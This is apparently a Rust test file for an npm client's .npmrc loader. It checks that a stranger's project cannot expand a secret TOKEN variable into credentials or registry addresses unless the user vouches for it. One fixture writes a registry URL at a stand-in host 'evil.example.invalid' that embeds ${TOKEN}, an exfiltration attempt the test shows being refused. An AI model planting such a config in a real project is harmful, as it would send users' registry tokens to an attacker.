//! The settings of a project that a stranger may have written.

use super::*;

const TOKEN: &str = "s3cret";

/// Settings of a project, with files by their paths, seen from a folder that holds both.
fn load(files: &[(&str, &str)], base: Option<&str>) -> Npmrc {
    let folder = tempfile::tempdir().unwrap();
    let path = |inner: &str| folder.path().join(inner);
    for inner in ["home", "project"] {
        std::fs::create_dir_all(path(inner)).unwrap();
    }
    std::fs::write(path("project/package.json"), "{}").unwrap();
    let here = folder.path().display().to_string();
    for (file, text) in files {
        std::fs::write(path(file), text.replace("HERE", &here)).unwrap();
    }
    let home = path("home").display().to_string();
    let environment: Environment = [
        ("HOME", home.as_str()),
        ("USERPROFILE", &home),
        ("PREFIX", &home),
        ("TOKEN", TOKEN),
    ]
    .into_iter()
    .map(|(name, value)| (name.to_owned(), value.to_owned()))
    .collect();
    let guard = crate::Guard {
        base,
        default_registry: &|| None,
    };
    let found = crate::load_npmrc_guarded(&path("project"), &environment, Npmrc::default(), &guard);
    found.unwrap()
}

const LINE: &str = "//r.example.invalid/:_authToken=${TOKEN}\n";
const KEY: &str = "//r.example.invalid/:_authToken";

#[test]
fn a_project_gets_variables_where_the_user_or_the_base_vouches_for_it() {
    let named = "@s:registry=https://r.example.invalid/\n";
    let user = "userconfig=HERE/project/user\n";
    let global = "globalconfig=HERE/project/user\n";
    let also = format!("{named}{LINE}");
    for (files, base, is_there) in [
        (vec![("project/.npmrc", LINE)], None, false),
        (vec![("project/.npmrc", &*also)], None, false),
        (
            vec![("project/.npmrc", LINE), ("home/.npmrc", named)],
            None,
            true,
        ),
        (vec![("project/.npmrc", LINE)], Some(LINE), true),
        (vec![("project/.npmrc", LINE)], Some(named), true),
        (vec![("home/.npmrc", LINE)], None, true),
        // What the project names as the user's or the machine's is its own, and vouches for nothing.
        (
            vec![("project/.npmrc", user), ("project/user", LINE)],
            None,
            false,
        ),
        (
            vec![("project/.npmrc", user), ("project/user", &*also)],
            None,
            false,
        ),
        (
            vec![("project/.npmrc", global), ("project/user", &*also)],
            None,
            false,
        ),
        (
            vec![("project/.npmrc", user), ("project/user", LINE)],
            Some(user),
            false,
        ),
    ] {
        let found = load(&files, base);
        assert_eq!(
            found.get(KEY),
            is_there.then_some(TOKEN),
            "{files:?} {base:?}"
        );
        let why = found.withheld_from("https://r.example.invalid/a");
        assert_eq!(why.is_none(), is_there, "{files:?} {base:?}");
    }
}

#[tokio::test]
async fn a_refusal_says_which_credential_was_not_sent() {
    for status in ["401 No", "403 No", "404 Not Found"] {
        let server = Server::start(move |_, _| http(status, &[], b"{}")).await;
        let host = server.key().to_owned();
        let text = format!(
            "registry={}\n{host}:_authToken=${{TOKEN}}\n",
            server.address
        );
        let npmrc = load(&[("project/.npmrc", &text)], None);
        let upstreams = Upstreams::from_npmrc(&npmrc, &Options::default()).unwrap();
        let error = fetch(&upstreams, "a").await.unwrap_err();
        assert!(error.is_denied() && !error.is_not_found(), "{error}");
        let said = error.to_string();
        assert!(
            said.contains("TOKEN was not put into") && !said.contains(TOKEN),
            "{said}"
        );
        // Near miss: what nobody has credentials for is not there.
        let npmrc = load(
            &[("project/.npmrc", &format!("registry={}\n", server.address))],
            None,
        );
        let upstreams = Upstreams::from_npmrc(&npmrc, &Options::default()).unwrap();
        let error = fetch(&upstreams, "a").await.unwrap_err();
        assert_eq!(error.is_not_found(), status.starts_with("404"), "{error}");
    }
}

#[test]
fn an_address_without_its_variable_is_not_asked() {
    let npmrc = load(
        &[(
            "project/.npmrc",
            "registry=https://evil.example.invalid/${TOKEN}/\n",
        )],
        None,
    );
    let error = Upstreams::from_npmrc(&npmrc, &Options::default()).unwrap_err();
    let said = error.to_string();
    for part in [
        "https://evil.example.invalid/${TOKEN}/",
        "TOKEN was not put into registry",
    ] {
        assert!(said.contains(part), "{said}");
    }
    assert!(!said.contains(TOKEN), "{said}");
}
